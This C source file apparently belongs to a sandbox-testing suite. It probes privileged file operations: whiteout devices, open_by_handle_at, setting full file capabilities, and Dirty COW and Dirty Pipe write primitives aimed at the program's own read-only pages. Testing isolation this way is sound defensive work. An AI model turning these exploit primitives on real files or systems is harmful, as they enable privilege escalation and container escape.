/* Files, their attributes, and the cached pages of a file that may only be read. */
#include "act.h"

#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

/* Overlays hide a file by a device of these numbers; anybody may make one elsewhere. */
static long make_whiteout(void) {
    return mknod("whiteout", S_IFCHR | 0644, 0) == 0 ? unlink("whiteout") : -1;
}
static long open_by_handle(void) {
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } place = {.handle = {.handle_bytes = sizeof place.bytes}};
    int mount;
    int directory = open("/tmp", O_RDONLY | O_DIRECTORY);
    if (directory < 0 || name_to_handle_at(AT_FDCWD, "/tmp", &place.handle, &mount, 0) != 0) {
        return -1;
    }
    return open_by_handle_at(directory, &place.handle, O_RDONLY) < 0 ? -1 : 0;
}
/* Version 2, all of them, effective. */
static long file_capabilities(void) {
    static const unsigned words[] = {0x02000001, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff};
    int file = open("capable", O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
    long result = file < 0 ? -1 : fsetxattr(file, "security.capability", words, sizeof words, 0);
    int error = errno;
    unlink("capable");
    errno = error;
    return result;
}

/* The first byte of this program, which may be read but not written. */
static int first_byte(void) {
    unsigned char byte = 0;
    int program = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    return program < 0 || pread(program, &byte, 1, 1) != 1 ? -1 : byte;
}
static long changed(int before) {
    errno = EROFS;
    return first_byte() != before ? 0 : -1;
}
/* Dirty COW: the kernel writes where the process may not. */
static long write_through_memory(void) {
    int before = first_byte();
    int program = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, program, 0);
    if (page == MAP_FAILED || memory < 0 || pwrite(memory, "x", 1, (off_t)(size_t)(page + 1)) != 1) {
        return -1;
    }
    /* It has to have been a copy. */
    return page[1] == 'x' ? changed(before) : -1;
}
/* Dirty Pipe: what is written to a pipe lands in the page that was spliced into it. */
static long write_through_pipe(void) {
    int before = first_byte();
    int program = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int ends[2];
    char page[4096];
    memset(page, 'x', sizeof page);
    if (pipe(ends) != 0) {
        return -1;
    }
    int pages = fcntl(ends[1], F_GETPIPE_SZ) / 4096;
    for (int i = 0; i < pages; i++) {
        if (write(ends[1], page, sizeof page) != sizeof page) {
            return -1;
        }
    }
    for (int i = 0; i < pages; i++) {
        if (read(ends[0], page, sizeof page) != sizeof page) {
            return -1;
        }
    }
    loff_t start = 0;
    if (splice(program, &start, ends[1], NULL, 1, 0) != 1 || write(ends[1], "x", 1) != 1) {
        return -1;
    }
    return changed(before);
}

const struct act file_acts[] = {ACT(make_whiteout),        ACT(open_by_handle),     ACT(file_capabilities),
                                ACT(write_through_memory), ACT(write_through_pipe), {NULL, NULL}};
